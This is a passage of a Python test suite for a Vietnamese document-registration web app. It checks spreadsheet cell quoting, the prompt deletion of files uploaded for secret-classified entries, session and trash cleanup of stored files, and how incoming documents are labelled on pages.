    from openpyxl import Workbook, load_workbook

    from ancuu_docs import spreadsheets

    book = Workbook()
    spreadsheets.put(book.active, 1, 1, typed)
    saved = io.BytesIO()
    book.save(saved)
    cell = load_workbook(io.BytesIO(saved.getvalue())).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (typed, "s", True)


# ------------------------------------------------------------------ nothing secret left on disk


def _read_header(client, data: bytes) -> tuple[str, str]:
    """ "Đọc thông tin từ tệp" on the register page: the intake it staged, and its file's digest."""
    import hashlib
    import re

    form = {"origin": "incoming", "term": "2025-2030", "security_level": "none", "urgency": "thuong"}
    read = client.post(
        "/documents/register",
        data={**form, "action": "detect", "file": (samples.stream(data), "cv.docx")},
        content_type="multipart/form-data",
    )
    assert read.status_code == 200, read.get_data(as_text=True)
    staged = re.search(r'name="intake" type="hidden" value="(\d+)"', read.get_data(as_text=True)).group(1)
    return staged, hashlib.sha256(data).hexdigest()


def _on_disk(app, digest: str) -> bool:
    return any(path.name == digest for path in uploads_files(app))


def test_a_file_read_for_an_entry_registered_as_secret_leaves_the_disk_at_once(app, login, api):
    from tests.test_detect import PARTY

    client = login("secretariat")
    staged, digest = _read_header(client, samples.docx(PARTY.splitlines()))
    assert _on_disk(app, digest)
    secret = {
        **DIRECTIVE,
        "action": "register",
        "number": "07-CV/TU",
        "doc_type": "CV",
        "security_level": "mat",
        "intake": staged,
    }
    done = client.post("/documents/register", data=secret)
    assert done.status_code == 302
    assert not _on_disk(app, digest)  # neither in the store nor in its trash
    entry = int(done.headers["Location"].rsplit("/", 1)[1])
    assert api("secretariat", "GET", f"/documents/{entry}").json["current_version"] is None


def test_files_a_session_read_and_never_used_leave_with_the_session(app, login):
    from tests.test_detect import PARTY

    client = login("secretariat")
    _staged, digest = _read_header(client, samples.docx(PARTY.splitlines()))
    assert _on_disk(app, digest)
    assert client.post("/logout").status_code == 302
    assert not _on_disk(app, digest)


def test_a_file_also_kept_by_a_version_stays_when_a_secret_entry_drops_it(app, login, api):
    from tests.test_detect import PARTY

    data = samples.docx(PARTY.splitlines())
    api.upload("secretariat", data=data)  # the same bytes, filed as a draft
    client = login("secretariat")
    staged, digest = _read_header(client, data)
    secret = {**DIRECTIVE, "action": "register", "security_level": "mat", "intake": staged}
    assert client.post("/documents/register", data=secret).status_code == 302
    assert _on_disk(app, digest)


def test_the_workers_sweep_empties_the_trash_after_its_grace(app):
    """What the sweep moved to the trash is deleted for good once it waited there."""
    import os
    import time
    from pathlib import Path

    from ancuu_docs import storage, storage_check

    digest, _created = storage.put(b"Noi dung khong ai dung")
    old = time.time() - 2 * app.config["STORAGE_ORPHAN_GRACE_SECONDS"]
    os.utime(storage.path_for(digest), (old, old))
    storage_check.sweep()
    trash = Path(app.config["UPLOAD_FOLDER"]) / storage_check.TRASH / digest
    assert trash.exists() and not storage.exists(digest)
    os.utime(trash, (old, old))
    storage_check.sweep()
    assert not trash.exists()


def test_an_incoming_document_is_shown_as_one_that_came_in(api, login):
    """Never "Đã ban hành" nor our term: we did not issue it. Its date is the date printed on
    it, its number in the book is its arrival number."""
    directive = register(api, **DIRECTIVE).json
    client = login("member")
    page = client.get(f"/documents/{directive['id']}").get_data(as_text=True)
    head = page[page.index('<article class="document">') : page.index("</dl>")]
    assert "Văn bản đến" in head and "Ngày văn bản" in head and "Số đến" in head
    assert "Đã ban hành" not in head and "Nhiệm kỳ" not in head and "Ngày ban hành" not in head
    listed = client.get("/documents").get_data(as_text=True)
    entry = listed[listed.index(directive["title"]) :][:1200]
    assert "Văn bản đến" in entry and f"Số đến {directive['arrival_number']}/" in entry
    assert "Đã ban hành" not in entry and "Ban hành" not in entry
    home = client.get("/").get_data(as_text=True)
    assert "Mới vào sổ trong 30 ngày qua" in home and "Vào sổ " in home
